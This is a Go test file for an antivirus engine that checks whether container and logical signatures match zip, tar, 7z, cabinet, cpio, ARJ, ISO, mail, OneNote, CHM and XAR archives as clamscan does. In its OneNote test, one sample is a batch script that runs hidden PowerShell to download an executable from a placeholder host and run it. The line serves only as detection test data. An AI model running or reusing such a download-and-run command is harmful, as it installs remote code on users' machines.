package engine

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/zlib"
	"crypto/md5"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fsigkd/fsigkd/internal/forms"
)

// ordered are archive members in the order written; a name ending in /
// is a directory.
type ordered [][2]string

func (o ordered) zip(t *testing.T, method uint16) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, m := range o {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: m[0], Method: method})
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(m[1]))
	}
	zw.Close()
	return b.Bytes()
}

func (o ordered) tar() []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for _, m := range o {
		h := &tar.Header{Name: m[0], Mode: 0o644, Size: int64(len(m[1])), Typeflag: tar.TypeReg, Format: tar.FormatUSTAR}
		if strings.HasSuffix(m[0], "/") {
			h.Typeflag, h.Size, h.Mode = tar.TypeDir, 0, 0o755
		}
		tw.WriteHeader(h)
		tw.Write([]byte(m[1]))
	}
	tw.Close()
	return b.Bytes()
}

// files writes o's files into a new directory, for an archiver to read.
func (o ordered) files(t *testing.T) map[string][]byte {
	f := map[string][]byte{}
	for _, m := range o {
		f[m[0]] = []byte(m[1])
	}
	return f
}

// TestContainerSignaturesAsClamscanReadsThem: container metadata
// signatures (.cdb) name the same containers in the bundled engine as in
// clamscan, by what each container says of its members: the name's
// expression, a zip record's place (its directories counted, from one),
// not a zip's local header's (sizes zero when a data descriptor has
// them), a tar file's place (files alone, from one), a cabinet's
// (from zero),
// the sizes packed and unpacked (exact and ranges), the container's own
// size, the container type or any; and not the containers one field
// sets apart.
func TestContainerSignaturesAsClamscanReadsThem(t *testing.T) {
	sz := tool(t, "7zz", "7zip")
	gc := tool(t, "gcab", "gcab")
	dir := t.TempDir()
	zeros := strings.Repeat("\x00", 1000)
	os.WriteFile(filepath.Join(dir, "test.cdb"), []byte(strings.Join([]string{
		`Cdb.Zip.Name:CL_TYPE_ZIP:*:invoice[0-9]+\.exe$:*:*:*:*:*:*`,
		`Cdb.Zip.Place:CL_TYPE_ZIP:*:^readme\.txt$:*:*:0:3:*:*`,
		`Cdb.Zip.Sizes:CL_TYPE_ZIP:*:^data\.bin$:1-100:1000:*:*:*:*`,
		`Cdb.Zip.Stored:CL_TYPE_ZIP:*:^stored\.bin$:1000:1000:*:*:*:*:0:255`,
		`Cdb.Zip.Size:CL_TYPE_ZIP:300-0:^big\.txt$:*:*:*:*:*:*`,
		`Cdb.Zip.LocalHeader:CL_TYPE_ZIP:*:^streamed\.txt$:0:0:*:*:*:*`,
		`Cdb.Tar.Second:CL_TYPE_POSIX_TAR:*:^b/:*:*:*:2:*:*`,
		`Cdb.Tar.Size:CL_TYPE_POSIX_TAR:*:^size7$:*:7:*:*:*:*`,
		`Cdb.Any.Screensaver:*:*:\.scr$:*:*:*:*:*:*`,
		`Cdb.Cab.First:CL_TYPE_MSCAB:*:^first:*:*:*:0:*:*`,
		`Cdb.SevenZip.Size:CL_TYPE_7Z:*:^hello:*:5-6:*:*:*:*`,
	}, "\n")+"\n"), 0o644)
	seven := func(o ordered) []byte {
		names := []string{"a", "-bd", "a.7z"}
		for _, m := range o {
			names = append(names, m[0])
		}
		return made(t, o.files(t), "a.7z", append([]string{sz}, names...)...)
	}
	cab := func(o ordered) []byte {
		names := []string{gc, "-c", "a.cab"}
		for _, m := range o {
			names = append(names, m[0])
		}
		return made(t, o.files(t), "a.cab", names...)
	}
	objects := map[string][]byte{
		"zip-name":           ordered{{"docs/", ""}, {"docs/invoice2024.exe", "MZ"}}.zip(t, zip.Deflate),
		"zip-name-not":       ordered{{"invoice.exe", "MZ"}, {"invoice2024.exe.txt", "text"}}.zip(t, zip.Deflate),
		"zip-third":          ordered{{"a/", ""}, {"a/one.txt", "1"}, {"readme.txt", "read me"}}.zip(t, zip.Deflate),
		"zip-second":         ordered{{"one.txt", "1"}, {"readme.txt", "read me"}}.zip(t, zip.Deflate),
		"zip-sizes":          ordered{{"data.bin", zeros}}.zip(t, zip.Deflate),
		"zip-sizes-stored":   ordered{{"data.bin", zeros}}.zip(t, zip.Store),
		"zip-stored":         ordered{{"stored.bin", zeros}}.zip(t, zip.Store),
		"zip-big":            ordered{{"big.txt", strings.Repeat("not so small ", 40)}}.zip(t, zip.Store),
		"zip-small":          ordered{{"big.txt", "small"}}.zip(t, zip.Store),
		"tar-second":         ordered{{"a/", ""}, {"a/one", "1"}, {"b/two", "2"}}.tar(),
		"tar-first":          ordered{{"b/two", "2"}, {"c/three", "3"}}.tar(),
		"tar-size":           ordered{{"size7", "seven!!"}}.tar(),
		"tar-size-not":       ordered{{"size7", "six!!!"}}.tar(),
		"tar-screensaver":    ordered{{"x/pretty.scr", "MZ"}}.tar(),
		"cab-first":          cab(ordered{{"first.txt", "1"}, {"second.txt", "2"}}),
		"cab-first-second":   cab(ordered{{"zero.txt", "0"}, {"first.txt", "1"}}),
		"cab-screensaver":    cab(ordered{{"pretty.scr", "MZ"}}),
		"7z-hello":           seven(ordered{{"hello.txt", "hello"}}),
		"7z-hello-too-long":  seven(ordered{{"hello.txt", "hello there"}}),
		"7z-screensaver":     seven(ordered{{"pretty.scr", "MZ"}}),
		"plain-invoice1.exe": []byte("MZ not a container"),
	}
	db := sameAsClamscan(t, dir, objects, 12)
	if got := db.Kinds()["container"]; got != 11 {
		t.Fatalf("%d container signatures in use, want 11", got)
	}
}

// TestContainerSignaturesRead: a container signature for a container
// whose members are not described is counted as skipped, not dropped
// silently; a malformed one fails the load with its line.
func TestContainerSignaturesRead(t *testing.T) {
	db, err := Load(writeSigs(t, map[string]string{"a.cdb": "Cdb.Rar:CL_TYPE_RAR:*:*:*:*:*:*:*:*\nCdb.Zip:CL_TYPE_ZIP:*:*:*:*:*:*:*:*\n"}))
	if err != nil || db.Skipped != 1 || db.Kinds()["container"] != 1 {
		t.Fatalf("skipped %d, in use %d: %v", db.Skipped, db.Kinds()["container"], err)
	}
	for _, bad := range []string{
		"Cdb.Short:CL_TYPE_ZIP:*:*:*:*:*:*:*",
		"Cdb.Type:CL_TYPE_NOSUCH:*:*:*:*:*:*:*:*",
		"Cdb.Range:CL_TYPE_ZIP:1-x:*:*:*:*:*:*:*",
		"Cdb.Enc:CL_TYPE_ZIP:*:*:*:*:2:*:*:*",
		"Cdb.Re:CL_TYPE_ZIP:*:a(b:*:*:*:*:*:*",
		"Cdb.Level:CL_TYPE_ZIP:*:*:*:*:*:*:*:*:x",
	} {
		_, err := Load(writeSigs(t, map[string]string{"a.cdb": "Cdb.Good:*:*:*:*:*:*:*:*:*\n" + bad + "\n"}))
		var le *LoadError
		if !errors.As(err, &le) || le.Line != 2 {
			t.Errorf("%s: %v", bad, err)
		}
	}
}

// TestContainerSignaturesInCpioAndARJ: the same, for cpio archives in
// each of the formats cpio writes (newc, crc, odc, the old binary one;
// every header counted from one, those with data looked at, their names
// as ClamAV makes them) and ARJ archives (every entry from one, sizes
// packed and unpacked).
func TestContainerSignaturesInCpioAndARJ(t *testing.T) {
	cp := tool(t, "cpio", "cpio")
	arj := tool(t, "arj", "arj")
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "test.cdb"), []byte(strings.Join([]string{
		`Cdb.Cpio.Newc:CL_TYPE_CPIO_NEWC:*:^d/second\.bin$:*:*:*:3:*:*`,
		`Cdb.Cpio.Crc:CL_TYPE_CPIO_CRC:*:^d/second\.bin$:*:*:*:3:*:*`,
		`Cdb.Cpio.Odc:CL_TYPE_CPIO_ODC:*:^d/second\.bin$:*:*:*:3:*:*`,
		`Cdb.Cpio.Old:CL_TYPE_CPIO_OLD:*:^d/second\.bin$:*:*:*:3:*:*`,
		`Cdb.Cpio.Sanitized:*:*:^per_cent_name$:*:*:*:*:*:*`,
		`Cdb.Arj.Second:CL_TYPE_ARJ:*:^two\.txt$:*:*:0:2:*:*`,
		`Cdb.Arj.Sizes:CL_TYPE_ARJ:*:^zeros$:1-200:5000:*:*:*:*`,
	}, "\n")+"\n"), 0o644)
	files := map[string][]byte{"d/first.txt": []byte("first"), "d/second.bin": []byte("second"),
		"per%cent%name": []byte("x"), "one.txt": []byte("1"), "two.txt": []byte("2"), "zeros": make([]byte, 5000)}
	cpio := func(format string, names ...string) []byte {
		return made(t, files, "a.cpio", "sh", "-c", "printf '%s\\n' "+strings.Join(names, " ")+" | "+cp+" -o --quiet -H "+format+" > a.cpio")
	}
	arjOf := func(names ...string) []byte {
		return made(t, files, "a.arj", append([]string{arj, "a", "-y", "-i", "a.arj"}, names...)...)
	}
	objects := map[string][]byte{
		// d is the first header, d/first.txt the second.
		"cpio-newc":        cpio("newc", "d", "d/first.txt", "d/second.bin"),
		"cpio-crc":         cpio("crc", "d", "d/first.txt", "d/second.bin"),
		"cpio-odc":         cpio("odc", "d", "d/first.txt", "d/second.bin"),
		"cpio-bin":         cpio("bin", "d", "d/first.txt", "d/second.bin"),
		"cpio-newc-second": cpio("newc", "d/first.txt", "d/second.bin"),
		"cpio-sanitized":   cpio("newc", "per%cent%name"),
		"arj-second":       arjOf("one.txt", "two.txt"),
		"arj-first":        arjOf("two.txt", "one.txt"),
		"arj-zeros":        arjOf("zeros"),
	}
	sameAsClamscan(t, dir, objects, 7)
}

// mailWith is a mail of a text part and an attachment named name (as
// the Content-Disposition gives it) holding data, base64.
func mailWith(name string, data []byte) []byte {
	return []byte("From: a@example.org\r\nTo: b@example.org\r\nSubject: files\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n" +
		"--XX\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n" +
		"Content-Disposition: attachment; filename=\"" + name + "\"\r\n\r\n" +
		base64.StdEncoding.EncodeToString(data) + "\r\n--XX--\r\n")
}

// TestContainerSignaturesInMail: the same, for a mail's attachments:
// their file names made safe as ClamAV makes them (every byte but
// letters, digits, '.' and '_' made '_'), their sizes decoded.
func TestContainerSignaturesInMail(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "test.cdb"), []byte(strings.Join([]string{
		`Cdb.Mail.Invoice:CL_TYPE_MAIL:*:^invoice_2024_\.exe$:100:100:*:*:*:*`,
		`Cdb.Mail.Screensaver:*:*:\.scr$:*:*:*:*:*:*`,
		`Cdb.Mail.Place:CL_TYPE_MAIL:*:^doc\.pdf$:*:*:0:0:*:*`,
	}, "\n")+"\n"), 0o644)
	program := append([]byte("MZ"), bytes.Repeat([]byte{'x'}, 98)...)
	objects := map[string][]byte{
		"mail-invoice":        mailWith("invoice 2024%.exe", program),
		"mail-invoice-longer": mailWith("invoice 2024%.exe", append(program, 'x')),
		"mail-invoice-other":  mailWith("invoice-2025.exe", program),
		"mail-screensaver":    mailWith("holiday photos.scr", []byte("MZ")),
		"mail-pdf":            mailWith("doc.pdf", []byte("%PDF-1.4 not much")),
		"mail-none":           mailWith("notes.txt", []byte("just text")),
	}
	sameAsClamscan(t, dir, objects, 3)
}

// TestContainerSignaturesInISO: the same, for ISO 9660 images as
// xorriso makes them (a primary tree and a Joliet one): each tree's
// records described, directories too, the primary's names as recorded
// (upper case, up to the ';'), Joliet's as written.
func TestContainerSignaturesInISO(t *testing.T) {
	xo := tool(t, "xorriso", "xorriso")
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "test.cdb"), []byte(strings.Join([]string{
		`Cdb.Iso.Joliet:CL_TYPE_ISO9660:*:^readme-first\.txt$:*:*:*:*:*:*`,
		`Cdb.Iso.Primary:CL_TYPE_ISO9660:*:^SETUP\.EXE$:*:*:*:*:*:*`,
		`Cdb.Iso.Directory:CL_TYPE_ISO9660:*:^payload$:*:*:*:*:*:*`,
		`Cdb.Iso.Size:CL_TYPE_ISO9660:*:^data\.bin$:777:777:*:*:*:*`,
	}, "\n")+"\n"), 0o644)
	iso := func(files map[string][]byte) []byte {
		return made(t, files, "a.iso", xo, "-as", "mkisofs", "-quiet", "-J", "-o", "a.iso", "in")
	}
	objects := map[string][]byte{
		"iso-joliet":    iso(map[string][]byte{"in/readme-first.txt": []byte("read")}),
		"iso-primary":   iso(map[string][]byte{"in/setup.exe": []byte("MZ")}),
		"iso-directory": iso(map[string][]byte{"in/payload/x.txt": []byte("x")}),
		"iso-size":      iso(map[string][]byte{"in/data.bin": bytes.Repeat([]byte("d"), 777)}),
		"iso-size-not":  iso(map[string][]byte{"in/data.bin": bytes.Repeat([]byte("d"), 778)}),
		"iso-clean":     iso(map[string][]byte{"in/notes.txt": []byte("n")}),
	}
	sameAsClamscan(t, dir, objects, 4)
}

// TestContainerConditionsAsClamscanReadsThem: a logical signature's
// Container (the type of the container the object lies in) and
// Intermediates (the types of the containers nearest it, outermost
// first, CL_TYPE_ANY for any) judge an object as clamscan judges them:
// in a zip, a tar, a tar in gzip, bzip2, xz, 7z, a cabinet, cpio, ARJ,
// an ISO image, a mail, a PDF's stream, a compound file's stream; not
// the same bytes alone, in
// another container, or in zstd (which ClamAV 1.4 does not open).
func TestContainerConditionsAsClamscanReadsThem(t *testing.T) {
	bin := map[string]string{}
	for _, n := range [][2]string{{"7zz", "7zip"}, {"gcab", "gcab"}, {"arj", "arj"}, {"cpio", "cpio"}, {"gzip", "gzip"}, {"xorriso", "xorriso"},
		{"bzip2", "bzip2"}, {"xz", "xz-utils"}, {"zstd", "zstd"}} {
		bin[n[0]] = tool(t, n[0], n[1])
	}
	part := func(s string) string { return hex.EncodeToString([]byte(s)) }
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "c.ldb"), []byte(strings.Join([]string{
		"Test.InZip;Engine:81-255,Container:CL_TYPE_ZIP,Target:0;0;" + part("PAYLOAD-ZIP"),
		"Test.InTar;Engine:81-255,Container:CL_TYPE_POSIX_TAR,Target:0;0;" + part("PAYLOAD-TAR"),
		"Test.TarInGz;Engine:81-255,Intermediates:CL_TYPE_GZ>CL_TYPE_POSIX_TAR,Target:0;0;" + part("PAYLOAD-TGZ"),
		"Test.AnyInZip;Engine:81-255,Intermediates:CL_TYPE_ANY>CL_TYPE_ZIP,Target:0;0;" + part("PAYLOAD-NESTED"),
		"Test.In7z;Engine:81-255,Container:CL_TYPE_7Z,Target:0;0;" + part("PAYLOAD-7Z"),
		"Test.InCab;Engine:81-255,Container:CL_TYPE_MSCAB,Target:0;0;" + part("PAYLOAD-CAB"),
		"Test.InArj;Engine:81-255,Container:CL_TYPE_ARJ,Target:0;0;" + part("PAYLOAD-ARJ"),
		"Test.InCpio;Engine:81-255,Container:CL_TYPE_CPIO_NEWC,Target:0;0;" + part("PAYLOAD-CPIO"),
		"Test.InIso;Engine:81-255,Container:CL_TYPE_ISO9660,Target:0;0;" + part("PAYLOAD-ISO"),
		"Test.InMail;Engine:81-255,Container:CL_TYPE_MAIL,Target:0;0;" + part("PAYLOAD-MAIL"),
		"Test.InPdf;Engine:81-255,Container:CL_TYPE_PDF,Target:0;0;" + part("PAYLOAD-PDF"),
		"Test.InBzip2;Engine:81-255,Container:CL_TYPE_BZ,Target:0;0;" + part("PAYLOAD-BZ"),
		"Test.InXz;Engine:81-255,Container:CL_TYPE_XZ,Target:0;0;" + part("PAYLOAD-XZ"),
		"Test.InOle;Engine:81-255,Container:CL_TYPE_MSOLE2,Target:0;0;" + part("PAYLOAD-OLE"),
	}, "\n")+"\n"), 0o644)
	file := func(s string) map[string][]byte {
		return map[string][]byte{"f.txt": []byte("some text " + s + " more text")}
	}
	zipOf := func(s string) []byte { return ordered{{"f.txt", "some text " + s + " more text"}}.zip(t, zip.Deflate) }
	tarOf := func(s string) []byte { return ordered{{"f.txt", "some text " + s + " more text"}}.tar() }
	objects := map[string][]byte{
		"zip":       zipOf("PAYLOAD-ZIP"),
		"zip-alone": []byte("some text PAYLOAD-ZIP more text"),
		// An Office document is a zip that ClamAV types as an Office
		// document: not a zip's member.
		"docx": ordered{{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
			{"word/document.xml", "some text PAYLOAD-ZIP more text"}}.zip(t, zip.Deflate),
		"zip-in-tar":     tarOf("PAYLOAD-ZIP"),
		"tar":            tarOf("PAYLOAD-TAR"),
		"tar-in-zip":     zipOf("PAYLOAD-TAR"),
		"tgz":            piped(t, tarOf("PAYLOAD-TGZ"), bin["gzip"], "-c"),
		"tar-not-gz":     tarOf("PAYLOAD-TGZ"),
		"zip-in-zip":     ordered{{"inner.zip", string(zipOf("PAYLOAD-NESTED"))}}.zip(t, zip.Store),
		"zip-not-nested": zipOf("PAYLOAD-NESTED"),
		"7z":             made(t, file("PAYLOAD-7Z"), "a.7z", bin["7zz"], "a", "-bd", "a.7z", "f.txt"),
		"cab":            made(t, file("PAYLOAD-CAB"), "a.cab", bin["gcab"], "-c", "a.cab", "f.txt"),
		"arj":            made(t, file("PAYLOAD-ARJ"), "a.arj", bin["arj"], "a", "-y", "-i", "a.arj", "f.txt"),
		"cpio":           made(t, file("PAYLOAD-CPIO"), "a.cpio", "sh", "-c", "echo f.txt | "+bin["cpio"]+" -o --quiet -H newc > a.cpio"),
		"iso":            made(t, map[string][]byte{"in/f.txt": []byte("some text PAYLOAD-ISO more text")}, "a.iso", bin["xorriso"], "-as", "mkisofs", "-quiet", "-J", "-o", "a.iso", "in"),
		"mail":           mailWith("f.txt", []byte("some text PAYLOAD-MAIL more text")),
		"mail-in-zip":    zipOf("PAYLOAD-MAIL"),
		"pdf":            forms.PDFWith("/Filter /FlateDecode", deflated([]byte("BT some text PAYLOAD-PDF more text ET"))),
		"pdf-in-zip":     zipOf("PAYLOAD-PDF"),
		"bz2":            piped(t, []byte("some text PAYLOAD-BZ more text"), bin["bzip2"], "-c"),
		"xz":             piped(t, []byte("some text PAYLOAD-XZ more text"), bin["xz"], "-c"),
		// A compound file's streams, in its sectors and in its mini
		// stream.
		"ole":       forms.OLE(false, forms.OLEStream{Name: "WordDocument", Data: []byte("some text PAYLOAD-OLE more text")}),
		"ole-mini":  forms.OLE(true, forms.OLEStream{Name: "Small", Data: []byte("some text PAYLOAD-OLE more text")}, forms.OLEStream{Name: "Big", Data: make([]byte, 5000)}),
		"ole-alone": []byte("some text PAYLOAD-OLE more text"),
		// ClamAV 1.4 does not open zstd: what lies in it is in nothing.
		"zst": piped(t, []byte("some text PAYLOAD-BZ more text"), bin["zstd"], "-c", "-q"),
	}
	sameAsClamscan(t, dir, objects, 15)
}

// deflated is data compressed as zlib (PDF's FlateDecode).
func deflated(data []byte) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	w.Write(data)
	w.Close()
	return b.Bytes()
}

// oneNoteWith is a OneNote section holding files (forms.OneNote).
var oneNoteWith = forms.OneNote

// TestOneNoteAsClamscanReadsIt: the files of a OneNote section (a way
// mail carried programs and scripts in 2023) are walked as clamscan
// walks them: a file packed in a zip (so that no signature stands in the
// section's own bytes) found in the first and in the second of a
// section's files; a script known by its hash (no longer found in the
// section's bytes alone); a logical signature's Container:CL_TYPE_ONENOTE judges a
// file in one. A file whose length runs past the section's end is walked
// as far as it goes and said damaged (clamscan passes it).
func TestOneNoteAsClamscanReadsIt(t *testing.T) {
	dir := t.TempDir()
	mark := []byte("PAYLOAD-IN-ONENOTE and more")
	os.WriteFile(filepath.Join(dir, "t.ldb"), []byte("Test.InOneNote;Engine:81-255,Container:CL_TYPE_ONENOTE,Target:0;0;"+hex.EncodeToString(mark[:18])+"\n"+
		"Test.Program;Engine:51-255,Target:0;0;"+hex.EncodeToString([]byte("PROGRAM-MARK-INSIDE"))+"\n"), 0o644)
	zipped := zipOne("run.exe", []byte("MZ a program PROGRAM-MARK-INSIDE"+strings.Repeat(" and its data", 50)), zip.Deflate)
	// A script known by its hash: found only as a file of its own.
	script := []byte("@echo off\r\npowershell -w hidden -c \"iwr http://example.com/a.exe -o a.exe; ./a.exe\"\r\n")
	sum := md5.Sum(script)
	os.WriteFile(filepath.Join(dir, "t.hdb"), fmt.Appendf(nil, "%x:%d:Test.Hash.Bat\n", sum, len(script)), 0o644)
	clean := zipOne("notes.txt", []byte("nothing"+strings.Repeat(" here", 50)), zip.Deflate)
	section := oneNoteWith(clean, zipped)
	objects := map[string][]byte{
		"onenote-first":     oneNoteWith(zipped),
		"onenote-second":    section,
		"onenote-clean":     oneNoteWith(clean, clean),
		"onenote-container": oneNoteWith(mark),
		"onenote-hash":      oneNoteWith(clean, script),
		"script-in-text":    append([]byte("a page: "), script...),
		"zip-container":     zipOne("m.txt", mark, zip.Store),
	}
	sameAsClamscan(t, dir, objects, 4)
	db, _ := Load(dir)
	cut := oneNoteWith(zipped)
	cut = cut[:len(cut)-60]
	if got := named(New(db), cut, all); got != "Heuristics.Broken.Archive" {
		t.Errorf("cut short: %q", got)
	}
}

// TestCHMAsClamscanReadsIt: a compiled help file's files are described
// to container signatures as ClamAV describes them (libmspack's list:
// the directory's order from zero, no system file, a directory
// neither; the name as the directory gives it, with its leading /; the
// size unpacked, 0 packed), and a logical signature's
// Container:CL_TYPE_MSCHM judges a file in one, each as clamscan does.
// The engine opens the file whatever its header's GUIDs say, as it
// opens chmcmd's.
func TestCHMAsClamscanReadsIt(t *testing.T) {
	chmcmd := tool(t, "chmcmd", "fp-utils")
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "test.cdb"), []byte(strings.Join([]string{
		`Cdb.Chm.Name:CL_TYPE_MSCHM:*:invoice[0-9]+\.exe$:*:*:*:*:*:*`,
		`Cdb.Chm.Rooted:CL_TYPE_MSCHM:*:^/setup\.exe$:*:*:*:*:*:*`,
		`Cdb.Chm.Size:CL_TYPE_MSCHM:*:^/data\.bin$:0:777:*:*:*:*`,
		`Cdb.Chm.Place:CL_TYPE_MSCHM:*:^/b\.htm$:*:*:*:7:*:*`,
		`Cdb.Chm.Any:*:*:\.scr$:*:*:*:*:*:*`,
	}, "\n")+"\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "c.ldb"), []byte(
		"Test.InChm;Engine:81-255,Container:CL_TYPE_MSCHM,Target:0;0;"+hex.EncodeToString([]byte("PAYLOAD-CHM"))+"\n"), 0o644)
	chm := func(files map[string][]byte, names ...string) []byte {
		hhp := "[OPTIONS]\nCompiled file=a.chm\n\n[FILES]\n" + strings.Join(names, "\n") + "\n"
		files["a.hhp"] = []byte(hhp)
		b := made(t, files, "a.chm", "sh", "-c", chmcmd+" a.hhp >/dev/null")
		// chmcmd writes the header's first GUID twice; Microsoft's
		// compiler writes {7C01FD11-...} second, and libmspack (so
		// clamscan) opens no file without it.
		b[0x28] = 0x11
		return b
	}
	page := func(s string) []byte { return []byte("<html><body>" + s + "</body></html>") }
	objects := map[string][]byte{
		"chm-name":          chm(map[string][]byte{"a.htm": page("a"), "docs/invoice2024.exe": []byte("MZ")}, "a.htm", "docs/invoice2024.exe"),
		"chm-name-not":      chm(map[string][]byte{"a.htm": page("a"), "docs/invoice.exe": []byte("MZ")}, "a.htm", "docs/invoice.exe"),
		"chm-rooted":        chm(map[string][]byte{"setup.exe": []byte("MZ")}, "setup.exe"),
		"chm-rooted-not":    chm(map[string][]byte{"x/setup.exe": []byte("MZ")}, "x/setup.exe"),
		"chm-size":          chm(map[string][]byte{"data.bin": bytes.Repeat([]byte("d"), 777)}, "data.bin"),
		"chm-size-not":      chm(map[string][]byte{"data.bin": bytes.Repeat([]byte("d"), 778)}, "data.bin"),
		"chm-second":        chm(map[string][]byte{"a.htm": page("a"), "b.htm": page("b")}, "a.htm", "b.htm"),
		"chm-third":         chm(map[string][]byte{"a.htm": page("a"), "aa.htm": page("aa"), "b.htm": page("b")}, "a.htm", "aa.htm", "b.htm"),
		"chm-screensaver":   chm(map[string][]byte{"pretty.scr": []byte("MZ")}, "pretty.scr"),
		"chm-payload":       chm(map[string][]byte{"p.txt": []byte("some text PAYLOAD-CHM more text")}, "p.txt"),
		"chm-payload-alone": []byte("some text PAYLOAD-CHM more text"),
	}
	db := sameAsClamscan(t, dir, objects, 6)
	if got := db.Kinds()["container"]; got != 5 {
		t.Fatalf("%d container signatures in use, want 5", got)
	}
}

// TestXarAsClamscanReadsIt: the files of a XAR archive (a macOS
// installer package is one), as bsdtar writes it with each compression
// it offers (zlib, bzip2, LZMA, xz, none), are walked as clamscan walks
// them: a body signature in a file in a directory, a file known by its
// hash, a logical signature's Container:CL_TYPE_XAR (not met by a file
// in a bzip2 stream of the archive: its container is the stream, in
// both); not the same bytes alone.
func TestXarAsClamscanReadsIt(t *testing.T) {
	bsdtar := tool(t, "bsdtar", "libarchive-tools")
	dir := t.TempDir()
	hashed := []byte("a script the signatures know by its hash\n")
	sum := md5.Sum(hashed)
	os.WriteFile(filepath.Join(dir, "x.ndb"), []byte("Test.XarBody:0:*:"+hex.EncodeToString([]byte("PAYLOAD-XAR-BODY"))+"\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "x.hdb"), []byte(fmt.Sprintf("%x:%d:Test.XarHash\n", sum, len(hashed))), 0o644)
	os.WriteFile(filepath.Join(dir, "x.ldb"), []byte("Test.InXar;Engine:81-255,Container:CL_TYPE_XAR,Target:0;0;"+hex.EncodeToString([]byte("PAYLOAD-XAR-IN"))+"\n"), 0o644)
	xar := func(compression string, files map[string][]byte) []byte {
		var names []string
		for n := range files {
			names = append(names, n)
		}
		return made(t, files, "a.xar", append([]string{bsdtar, "--format", "xar", "--options", "xar:compression=" + compression, "-cf", "a.xar"}, names...)...)
	}
	objects := map[string][]byte{}
	for _, c := range []string{"gzip", "bzip2", "lzma", "xz", "none"} {
		body := map[string][]byte{"Contents/Resources/postinstall": []byte("#!/bin/sh\necho PAYLOAD-XAR-BODY\n"), "readme.txt": []byte("read me")}
		objects["xar-body-"+c] = xar(c, body)
		objects["xar-hash-"+c] = xar(c, map[string][]byte{"scripts/run.sh": hashed})
		objects["xar-in-"+c] = xar(c, map[string][]byte{"in.txt": []byte("some text PAYLOAD-XAR-IN more text")})
		objects["xar-clean-"+c] = xar(c, map[string][]byte{"in.txt": []byte("nothing here")})
	}
	objects["in-alone"] = []byte("some text PAYLOAD-XAR-IN more text")
	sameAsClamscan(t, dir, objects, 14)
}
